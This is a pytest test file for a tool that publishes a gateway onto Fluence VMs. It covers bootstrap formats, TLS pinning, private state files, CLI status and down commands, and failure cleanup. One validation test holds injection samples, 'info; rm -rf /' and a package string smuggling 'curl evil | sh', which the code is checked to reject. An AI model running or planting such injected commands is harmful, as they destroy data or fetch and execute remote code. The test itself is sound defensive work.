"""Publishing to Fluence end to end against the fake Fluence API (``tests/support/fakes/fluence.py``), both API
generations: estimate → create → wait → bootstrap (gen B cloud-init + security group; gen A openPorts + SSH) →
/readyz → publish → invoke through the returned URL → a second publish reuses the VM → ``depin fluence
status|down`` (VM gone, gateway process gone, state cleared). Failure paths: 422 no offer, a VM that fails,
a price above the cap (nothing created), a gateway that never gets ready (the VM is deleted: no orphan), a
create whose answer was lost (reconciled by name: still one VM).

The fake really starts a gateway process on 127.0.0.1 at the port the publisher asks for, from the bootstrap
it sent, so these tests run the real gateway, the real admin API and the real SSH bootstrap.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import typer
import yaml
from eth_account.signers.local import LocalAccount
from typer.testing import CliRunner

from depin_core.errors import ConfigError, TransientError
from depin_core.net import free_port
from depin_core.tls import client_context, fingerprint, make_certificate
from pipelines.cli.fluence import open_fluence_gateway, run_fluence_publish
from pipelines.cli.serve import run_invoke
from serving.fluence import FluenceClient, FluenceUnavailable, NoOffer
from serving.fluence import bootstrap as boot
from serving.fluence.errors import VmFailed
from serving.fluence.publisher import FluencePublisher
from serving.fluence.settings import FluenceSettings
from serving.fluence.state import StateStore
from serving.fluence.vms import VM_PREFIX
from tests.support.fakes.fluence import FakeFluence

GENERATIONS = ["A", "B"]


# -------------------------------------------------------------------------------------------- bootstrap format


def env_for(port: int = 8787) -> dict[str, str]:
    return boot.gateway_env(port=port, admin_key_hash="ab" * 32, trusted_publishers=["0x" + "12" * 20])


def test_cloud_init_is_yaml_carrying_the_env_and_the_script() -> None:
    env = env_for()
    user_data = boot.cloud_init(env, "depin-pipeline @ git+https://example.org/depin.git@v1")
    assert user_data.startswith("#cloud-config\n") and len(user_data.encode()) <= boot.MAX_USER_DATA
    doc = yaml.safe_load(user_data)
    files = {f["path"]: f for f in doc["write_files"]}
    assert files[boot.ENV_PATH]["permissions"] == "0600"
    assert boot.parse_env(files[boot.ENV_PATH]["content"]) == env
    script = files[boot.SCRIPT_PATH]["content"]
    assert files[boot.SCRIPT_PATH]["permissions"] == "0755"
    assert script == boot.bootstrap_script(env, "depin-pipeline @ git+https://example.org/depin.git@v1")
    assert doc["runcmd"] == [[boot.SCRIPT_PATH]]
    # the heredoc exactly as the shared format says, and the unit
    body = "".join(f"{k}={v}\n" for k, v in sorted(env.items()))
    assert f"mkdir -p /etc/depin\ncat > /etc/depin/gateway.env <<'DEPIN_ENV'\n{body}DEPIN_ENV\n" in script
    assert boot.env_from_script(script) == env == boot.env_from_cloud_init(user_data)
    assert "EnvironmentFile=/etc/depin/gateway.env" in script and "Restart=always" in script
    assert "ExecStart=/opt/depin/venv/bin/depin serve" in script
    assert env["DEPIN_GATEWAY_HOST"] == "0.0.0.0" and env["DEPIN_GATEWAY_REGISTRY_DIR"] == boot.REGISTRY_DIR


def test_the_tls_files_go_to_the_vm_and_the_key_never_into_a_stored_script() -> None:
    env, cert = env_for(), make_certificate(("depin-gw-t1",), ())
    assert env["DEPIN_GATEWAY_TLS_CERT_FILE"] == boot.TLS_CERT_PATH
    assert env["DEPIN_GATEWAY_TLS_KEY_FILE"] == boot.TLS_KEY_PATH
    user_data = boot.cloud_init(env, "depin-pipeline==0.1.0", tls=cert)
    assert len(user_data.encode()) <= boot.MAX_USER_DATA
    files = {f["path"]: f for f in yaml.safe_load(user_data)["write_files"]}
    assert files[boot.TLS_CERT_PATH]["content"] == cert.cert_pem
    assert files[boot.TLS_KEY_PATH]["content"] == cert.key_pem
    assert files[boot.TLS_KEY_PATH]["permissions"] == "0600"
    stored = files[boot.SCRIPT_PATH]["content"]  # 0755 on the VM: must not hold the key
    assert cert.key_pem not in stored and f"chown depin:depin {boot.TLS_KEY_PATH}" in stored
    over_ssh = boot.bootstrap_script(env, "depin-pipeline==0.1.0", tls=cert)  # generation A: stdin only
    assert f"cat > {boot.TLS_KEY_PATH} <<'DEPIN_TLS_KEY'\n{cert.key_pem}DEPIN_TLS_KEY\n" in over_ssh
    assert over_ssh.index(boot.TLS_KEY_PATH) < over_ssh.index("umask 022")  # written under umask 077


def test_bootstrap_refuses_unsafe_values_and_oversized_user_data() -> None:
    with pytest.raises(ConfigError, match="admin_key_hash"):
        boot.gateway_env(port=8787, admin_key_hash="dgk_not-a-hash", trusted_publishers=["0x" + "1" * 40])
    with pytest.raises(ConfigError, match="port 22"):
        boot.gateway_env(port=22, admin_key_hash="a" * 64, trusted_publishers=["0x" + "1" * 40])
    with pytest.raises(ConfigError, match="quoting"):
        boot.render_env({**env_for(), "DEPIN_GATEWAY_LOG_LEVEL": "info; rm -rf /"})
    with pytest.raises(ConfigError, match="package"):
        boot.bootstrap_script(env_for(), "depin'; curl evil | sh; '")
    extra = {f"DEPIN_GATEWAY_X{i}": "y" * 200 for i in range(90)}
    big = boot.gateway_env(
        port=8787, admin_key_hash="a" * 64, trusted_publishers=["0x" + "1" * 40], extra=extra
    )
    with pytest.raises(ConfigError, match="16384-byte cap"):
        boot.cloud_init(big, "depin-pipeline")


def test_state_files_are_private_and_hold_no_key(tmp_path: Path) -> None:
    from pydantic import SecretStr

    from serving.fluence.state import Deployment

    store = StateStore(tmp_path / "fluence")
    store.write_admin_key("t1", SecretStr("dgk_secret"))
    store.put(Deployment(target="t1", vm_name="depin-gw-t1", generation="A", port=1, admin_key_hash="c" * 64))
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
    assert stat.S_IMODE(store.key_path("t1").stat().st_mode) == 0o600
    assert "dgk_secret" not in store.path.read_text()
    assert store.admin_key("t1").get_secret_value() == "dgk_secret"  # type: ignore[union-attr]
    os.chmod(store.key_path("t1"), 0o644)
    with pytest.raises(ConfigError, match="chmod 600"):
        store.admin_key("t1")
    cert = make_certificate(("depin-gw-t1",), ())
    store.write_tls("t1", cert)
    for path in (store.tls_cert_path("t1"), store.tls_key_path("t1")):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert store.tls_cert("t1") == cert.cert_pem and store.tls_pair("t1") == cert
    os.chmod(store.tls_key_path("t1"), 0o644)
    with pytest.raises(ConfigError, match="chmod 600"):
        store.tls_pair("t1")
    store.remove("t1")
    assert store.get("t1") is None and not store.key_path("t1").exists()
    assert not store.tls_cert_path("t1").exists() and not store.tls_key_path("t1").exists()


# ------------------------------------------------------------------------------------------------- fixtures


@pytest.fixture(params=GENERATIONS)
def fake(request: pytest.FixtureRequest) -> Iterator[FakeFluence]:
    with FakeFluence(request.param, step_s=0.05) as f:
        yield f


def settings_for(tmp_path: Path, **overrides: Any) -> FluenceSettings:
    base: dict[str, Any] = {
        "target": "t1",
        "port": free_port(),
        "state_dir": tmp_path / "fluence",
        "max_usd_per_day": 5.0,
        "poll_s": 0.05,
        "vm_timeout_s": 30.0,
        "bootstrap_timeout_s": 60.0,
        "ready_timeout_s": 120.0,
    }
    return FluenceSettings(**{**base, **overrides})


def publisher_for(fake: FakeFluence, account: LocalAccount, settings: FluenceSettings) -> FluencePublisher:
    client = FluenceClient(fake.api_key, base_url=fake.url, backoff_s=0.01)
    return FluencePublisher(
        client,
        account,
        settings,
        ssh_port_for=fake.ssh_port,
        own_client=True,
        gateway_options={"retries": 3, "backoff_s": 0.05, "timeout": 60},
    )


def live_vms(fake: FakeFluence) -> list[dict[str, Any]]:
    return [v for v in fake.vms() if not v["ended"]]


def cli_app() -> typer.Typer:
    """The `depin fluence` commands as pipelines.cli registers them."""
    from pipelines.cli import fluence as fluence_cmd

    app = typer.Typer(add_completion=False)
    app.command("status")(fluence_cmd.status)
    app.command("down")(fluence_cmd.down)
    return app


def cli_env(fake: FakeFluence, settings: FluenceSettings) -> dict[str, str]:
    return {
        "DEPIN_FLUENCE_API_KEY": fake.api_key.get_secret_value(),
        "DEPIN_FLUENCE_URL": fake.url,
        "DEPIN_FLUENCE_STATE_DIR": str(settings.state_dir),
        "DEPIN_FLUENCE_TARGET": settings.target,
        "DEPIN_FLUENCE_PORT": str(settings.port),
    }


def cli(fake: FakeFluence, settings: FluenceSettings, *args: str) -> dict[str, Any]:
    env = cli_env(fake, settings)
    result = CliRunner().invoke(cli_app(), [*args, "--json"], env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert fake.api_key.get_secret_value() not in result.output
    return json.loads(result.stdout.strip().splitlines()[-1])


# ------------------------------------------------------------------------------------------------ lifecycle


@pytest.mark.e2e
def test_publish_invoke_reuse_status_down(
    fake: FakeFluence,
    range_artifact: Path,
    publisher: LocalAccount,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    settings = settings_for(tmp_path)
    port = settings.port
    with publisher_for(fake, publisher, settings) as pub:
        quote = pub.quote()
        assert 0 < quote.usd_per_day <= settings.max_usd_per_day
        result = pub.publish(range_artifact, "range", alias="prod")
    url = f"https://127.0.0.1:{port}"  # HTTPS with the certificate made for this VM, pinned
    assert result.target == url and result.created and result.publisher == publisher.address
    assert result.aliases["prod"] == {result.version: 1.0} and "prod" in result.moved

    # one VM, running, bootstrapped the generation's way; only the key's sha256 left this machine
    (vm,) = live_vms(fake)
    assert vm["name"] == VM_PREFIX + "t1" and vm["gateway_alive"]
    store = StateStore(settings.state_dir)
    key = store.admin_key("t1").get_secret_value()  # type: ignore[union-attr]
    pem = store.tls_cert("t1")
    assert pem is not None and not store.tls_key_path("t1").exists()  # only the VM keeps the key
    pinned = client_context(pem)
    assert vm["env"]["DEPIN_GATEWAY_TLS_CERT_FILE"] == boot.TLS_CERT_PATH
    assert vm["env"]["DEPIN_GATEWAY_TLS_KEY_FILE"] == boot.TLS_KEY_PATH
    sent = fake._vm(vm["id"]).tls_files  # what the bootstrap handed the VM: this certificate and its key
    assert sent[boot.TLS_CERT_PATH] == pem and "PRIVATE KEY" in sent[boot.TLS_KEY_PATH]
    with pytest.raises(httpx.ConnectError, match="CERTIFICATE_VERIFY_FAILED"):  # not a public CA's
        httpx.get(f"{url}/healthz", timeout=10)
    assert vm["env"]["DEPIN_GATEWAY_ADMIN_KEY_HASHES"] == hashlib.sha256(key.encode()).hexdigest()
    assert vm["env"]["DEPIN_GATEWAY_TRUSTED_PUBLISHERS"] == publisher.address
    assert vm["env"]["DEPIN_GATEWAY_PORT"] == str(port)
    assert key not in json.dumps(vm) and key not in store.path.read_text()
    if fake.generation == "A":
        assert vm["status"] == "Active" and not vm["had_cloud_init"]
        assert {p["port"] for p in vm["open_ports"]} == {22, port}
    else:
        assert vm["status"] == "launched" and vm["had_cloud_init"]
        group = vm["security_group"]
        assert group is not None and group["attachedTo"] == [vm["iface_id"]]  # interface ids
        opened = {r["protocolKind"]["tcp"]["ports"]["exact"]["value"] for r in group["ingressRules"]["rules"]}
        assert opened == {22, port}
    dep = store.get("t1")
    assert dep is not None and dep.vm_id == vm["id"] and dep.generation == fake.generation
    assert dep.url == url and dep.status == "ready" and dep.usd_per_day == pytest.approx(quote.usd_per_day)
    assert dep.tls_fingerprint == fingerprint(pem)
    assert [(p.name, p.version) for p in dep.published] == [("range", result.version)]
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600

    # invoke the function through the returned URL
    rows = httpx.get(f"{result.target}/v1/functions/range", timeout=10, verify=pinned).json()["manifest"][
        "example"
    ]
    r = httpx.post(
        f"{result.target}/v1/functions/range@prod/invoke", json={"inputs": rows}, timeout=60, verify=pinned
    )
    assert r.status_code == 200, r.text
    assert r.json()["version"] == result.version and len(r.json()["outputs"]) == len(rows)

    # a second run, as `depin publish --target fluence` makes it (settings from the environment), reuses the VM
    for name, value in cli_env(fake, settings).items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("DEPIN_PUBLISHER_KEY", publisher.key.hex())
    second = run_fluence_publish(model=range_artifact, name="range", alias="canary", max_batch_size=1024)
    assert second["version"] == result.version and not second["created"] and second["target"] == url
    assert second["function_url"] == f"{url}/v1/functions/range@canary/invoke"
    assert second["fluence"]["vm_id"] == vm["id"] and second["aliases"]["canary"] == {result.version: 1.0}
    assert [v["id"] for v in live_vms(fake)] == [vm["id"]] and len(fake.vms()) == 1
    # …and so does the flow's publisher (train_and_publish with publish.target = "fluence")
    with open_fluence_gateway() as gateway:
        assert gateway.target == url
        assert gateway.client.function("range")["aliases"]["canary"] == {result.version: 1.0}
    assert len(fake.vms()) == 1
    from pipelines._steps import smoke_invoke
    from pipelines.params import PublishParams

    n, outputs = smoke_invoke(PublishParams(target="fluence"), "range", result.version)  # pinned too
    assert n == len(outputs) > 0

    # depin invoke against the deployment pins its certificate (from the state directory)
    doc = run_invoke(ref="range@prod", data=json.dumps(rows), target=url, request_id=None)
    assert doc["version"] == result.version and len(doc["outputs"]) == len(rows)
    doc = run_invoke(ref="range@canary", data=json.dumps(rows[:1]), target="fluence", request_id=None)
    assert doc["version"] == result.version and len(doc["outputs"]) == 1

    # depin fluence status: the state + the live API, the served URL and the certificate's fingerprint
    shown = cli(fake, settings, "status")
    (d,) = shown["deployments"]
    assert d["vm_id"] == vm["id"] and d["ready"] and d["url"] == url and not shown["untracked"]
    assert d["tls_fingerprint"] == fingerprint(pem)
    assert d["vm_status"] in ("Active", "launched") and d["published"][0]["version"] == result.version
    assert key not in json.dumps(shown)

    # depin fluence down: the VM and its gateway are gone, the state is cleared
    gone = cli(fake, settings, "down")
    assert gone["deleted"][0]["vm_ids"] == [vm["id"]]
    after = fake.vm(vm["id"])
    assert after["ended"] and not after["gateway_alive"] and fake.live_gateways() == 0
    assert store.get("t1") is None and not store.key_path("t1").exists()
    assert not store.tls_cert_path("t1").exists() and not store.tls_key_path("t1").exists()
    with pytest.raises(httpx.TransportError):
        httpx.get(f"{url}/healthz", timeout=2, verify=pinned)
    if fake.generation == "B":  # its security group went with it
        assert after["security_group"] is None
    assert cli(fake, settings, "status")["deployments"] == []


# ---------------------------------------------------------------------------------------------- failure paths


def assert_nothing_left(fake: FakeFluence, settings: FluenceSettings) -> None:
    assert live_vms(fake) == [] and fake.live_gateways() == 0
    assert StateStore(settings.state_dir).get(settings.target) is None


@pytest.mark.e2e
def test_price_above_cap_creates_nothing(
    fake: FakeFluence, range_artifact: Path, publisher: LocalAccount, tmp_path: Path
) -> None:
    settings = settings_for(tmp_path, max_usd_per_day=0.5)
    with publisher_for(fake, publisher, settings) as pub, pytest.raises(ConfigError) as exc:
        pub.publish(range_artifact, "range", alias="prod")
    assert "DEPIN_FLUENCE_MAX_USD_PER_DAY" in str(exc.value) and "nothing was created" in str(exc.value)
    assert fake.vms() == []
    assert not any(
        r["method"] in ("POST", "PUT") and r["path"] in ("/vms/v3", "/v2/vms") for r in fake.requests
    )
    assert_nothing_left(fake, settings)


@pytest.mark.e2e
def test_no_offer(fake: FakeFluence, range_artifact: Path, publisher: LocalAccount, tmp_path: Path) -> None:
    fake.no_offer = True
    settings = settings_for(tmp_path)
    with publisher_for(fake, publisher, settings) as pub, pytest.raises(NoOffer) as exc:
        pub.publish(range_artifact, "range")
    assert exc.value.status == 422 and "constraints" in str(exc.value)
    assert fake.vms() == []
    assert_nothing_left(fake, settings)


@pytest.mark.e2e
def test_failed_vm_is_deleted(
    fake: FakeFluence, range_artifact: Path, publisher: LocalAccount, tmp_path: Path
) -> None:
    fake.fail_next = "failed"
    settings = settings_for(tmp_path)
    with publisher_for(fake, publisher, settings) as pub, pytest.raises(VmFailed) as exc:
        pub.publish(range_artifact, "range")
    assert "deleted" in str(exc.value)
    (vm,) = fake.vms()
    assert vm["ended"] and vm["status"] in ("Stopped", "terminated")
    assert_nothing_left(fake, settings)


@pytest.mark.e2e
def test_readiness_timeout_deletes_the_vm(
    fake: FakeFluence, range_artifact: Path, publisher: LocalAccount, tmp_path: Path
) -> None:
    fake.fail_next = "never_ready"
    settings = settings_for(tmp_path, ready_timeout_s=1.0)
    with publisher_for(fake, publisher, settings) as pub, pytest.raises(TransientError) as exc:
        pub.publish(range_artifact, "range")
    assert "not ready" in str(exc.value) and "deleted (no orphan)" in str(exc.value)
    (vm,) = fake.vms()
    assert vm["ended"] and not vm["gateway_alive"]
    assert_nothing_left(fake, settings)


@pytest.mark.e2e
def test_lost_create_answer_is_reconciled_by_name(
    range_artifact: Path, publisher: LocalAccount, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The create reached the API but its answer was lost: the publisher finds the VM by name and uses it; a
    failed VM of that name is deleted and replaced; still one live VM."""
    with FakeFluence("B", step_s=0.05) as fake:
        settings = settings_for(tmp_path)
        # a failed VM of the target's name from an earlier run
        with FluenceClient(fake.api_key, base_url=fake.url) as client:
            fake.fail_next = "failed"
            cluster = client.b.clusters()[0].id
            config = client.b.configurations()[0].id
            old = client.b.create_vm(
                cluster_id=cluster,
                name=VM_PREFIX + "t1",
                configuration_id=config,
                boot_disk=client.b.boot_disk(cluster, "old"),
            )
        deadline = time.monotonic() + 30
        while fake.vm(old.id)["status"] != "failed":
            assert time.monotonic() < deadline, fake.vm(old.id)
            time.sleep(0.05)
        with publisher_for(fake, publisher, settings) as pub:
            real_create = pub.backend.create

            def lossy_create(*args: Any, **kwargs: Any) -> str:
                real_create(*args, **kwargs)
                raise FluenceUnavailable("POST /v2/vms: connection failed after sending")

            monkeypatch.setattr(pub.backend, "create", lossy_create)
            result = pub.publish(range_artifact, "range", alias="prod")
        (vm,) = live_vms(fake)
        assert vm["id"] != old.id and fake.vm(old.id)["ended"]
        assert StateStore(settings.state_dir).get("t1").vm_id == vm["id"]  # type: ignore[union-attr]
        pinned = client_context(StateStore(settings.state_dir).tls_cert("t1") or "")
        assert httpx.get(f"{result.target}/readyz", timeout=5, verify=pinned).status_code == 200
        with publisher_for(fake, publisher, settings) as pub:
            pub.down()
        assert_nothing_left(fake, settings)


@pytest.mark.e2e
def test_foreign_vm_of_the_same_name_is_not_adopted(
    range_artifact: Path, publisher: LocalAccount, tmp_path: Path
) -> None:
    """A running VM named like ours that this machine has no record (no admin key) of: refuse, create
    nothing; `down` deletes it."""
    with FakeFluence("A", step_s=0.05) as fake:
        settings = settings_for(tmp_path)
        with FluenceClient(fake.api_key, base_url=fake.url) as client:
            image = client.a.default_images()[0].download_url
            client.a.create(
                name=VM_PREFIX + "t1", os_image=image, ssh_keys=[boot.ensure_ssh_key(tmp_path / "k")]
            )
        with publisher_for(fake, publisher, settings) as pub:
            with pytest.raises(ConfigError, match="no record"):
                pub.publish(range_artifact, "range")
            assert len(fake.vms()) == 1
            assert pub.status()["untracked"][0]["vm_name"] == VM_PREFIX + "t1"
            pub.down()
        assert_nothing_left(fake, settings)
